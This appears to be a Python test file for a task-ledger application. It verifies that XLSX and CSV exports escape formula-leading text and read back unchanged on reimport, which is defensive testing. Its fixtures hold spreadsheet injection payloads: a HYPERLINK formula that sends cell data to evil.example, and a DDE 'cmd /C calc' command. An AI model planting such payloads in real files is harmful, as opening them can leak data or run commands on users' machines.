"""Ledger exports carry no live formula (OWASP CSV injection): XLSX string cells with Excel's quote
prefix, CSV fields prefixed with '; both read back as they were written (round trip)."""

from __future__ import annotations

import base64
import csv
import io
import re
import zipfile

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from models.task import Task
from resolvers.ledger.ledger_files import FORMULA_START, escape_formula, unescape_formula
from tests.ledger.setup import gid, make_plan, make_task

IMPORT = """
mutation($input: ImportTasksInput!) {
  importTasks(input: $input) { importedCount userErrors { field message code } }
}
"""
TITLES = {
    "1": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "2": "+1+cmd|' /C calc'!A0",
    "3": "-2+3",
    "4": "@SUM(1,2)",
    "5": "'=已经加了引号",
    "6": "普通任务",
}
# Titles are trimmed when a task is created; a leader's name is not: the other starting characters.
LEADERS = {"1": "=1+2", "2": "\t=1+1", "3": "\r=1+1"}


async def _plan_with_formula_titles(scope):  # type: ignore[no-untyped-def]
    plan = await make_plan(scope)
    for code, title in TITLES.items():
        await make_task(scope, plan, code, title=title, responsible_leader=LEADERS.get(code))
    return plan


async def _download(client, tokens, plan, fmt: str) -> bytes:  # type: ignore[no-untyped-def]
    url = f"/exports/plans/{gid(plan)}.{fmt}"
    assert (await client.get(url)).status_code == 401
    response = await client.get(url, headers={"Authorization": f"Bearer {tokens['SUPERVISOR']}"})
    assert response.status_code == 200
    return response.content


async def _reimported_titles(gql, scope, content: bytes, fmt: str) -> dict[str, str]:  # type: ignore[no-untyped-def]
    copy = await make_plan(scope, f"东政办发〔2024〕{fmt}号")
    variables = {
        "input": {"planId": gid(copy), "format": fmt, "contentBase64": base64.b64encode(content).decode()}
    }
    assert (await gql.ok(IMPORT, variables))["importedCount"] == len(TITLES)
    return {t.code: t.title for t in await Task.filter(plan_id=copy.id)}  # type: ignore[misc]


async def test_xlsx_export_writes_text_cells_not_formulas(gql, client, tokens, scope) -> None:  # type: ignore[no-untyped-def]
    plan = await _plan_with_formula_titles(scope)
    content = await _download(client, tokens, plan, "xlsx")
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    # row 3: below the plan's title row and the header; its style is the quote prefix (checked below)
    assert re.search(r'<c r="B3" s="\d+" t="inlineStr"><is><t>=HYPERLINK\(', xml)
    styles = zipfile.ZipFile(io.BytesIO(content)).read("xl/styles.xml").decode()
    assert 'quotePrefix="1"' in styles
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for code, title in TITLES.items():
        cell = cells[code][1]
        assert (cell.value, cell.data_type) == (title, "s")
        assert cell.quotePrefix == title.startswith(FORMULA_START)
    for code in LEADERS:
        leader = cells[code][6]
        assert (leader.data_type, leader.quotePrefix) == ("s", True)
    assert cells["1"][6].value == "=1+2" and cells["2"][6].value == "\t=1+1"
    assert await _reimported_titles(gql, scope, content, "XLSX") == TITLES


async def test_csv_export_prefixes_formula_text(gql, client, tokens, scope) -> None:  # type: ignore[no-untyped-def]
    plan = await _plan_with_formula_titles(scope)
    content = await _download(client, tokens, plan, "csv")
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert all(line.startswith('"') for line in content.decode("utf-8-sig").split("\r\n") if line)
    fields = [field for row in rows[1:] for field in row]
    assert not [f for f in fields if f.startswith(FORMULA_START)]
    titles = {row[0]: row[1] for row in rows[1:]}
    assert titles["1"] == "'" + TITLES["1"] and titles["5"] == "''=已经加了引号" and titles["6"] == "普通任务"
    assert [row[6] for row in rows[1:4]] == ["'=1+2", "'\t=1+1", "'\r=1+1"]
    assert await _reimported_titles(gql, scope, content, "CSV") == TITLES


@given(st.text(max_size=12))
def test_escaping_is_undone_exactly(text: str) -> None:
    escaped = escape_formula(text)
    assert not escaped.startswith(FORMULA_START)
    assert unescape_formula(escaped) == text
